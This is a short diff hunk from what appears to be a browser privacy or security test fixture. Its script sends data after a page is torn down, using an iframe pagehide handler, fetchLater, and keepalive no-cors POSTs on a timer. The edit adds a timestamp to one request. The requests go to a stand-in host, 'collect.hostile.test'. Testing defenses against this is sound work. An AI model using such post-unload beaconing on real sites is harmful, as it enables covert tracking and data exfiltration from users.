@@ -78,7 +78,7 @@ export const sendsAfterwards = `(async () => {
   document.body.append(bare);
   await attempt(() => bare.contentWindow.addEventListener('pagehide', word('bare')));
   await attempt(() => fetchLater('https://collect.hostile.test/afterwards/later', { method: 'POST', body: 'x' }));
-  setInterval(() => fetch('https://collect.hostile.test/tick', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }), 25);
+  setInterval(() => fetch('https://collect.hostile.test/tick?at=' + Date.now(), { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }), 25);
   await tell({});
 })()`;
 
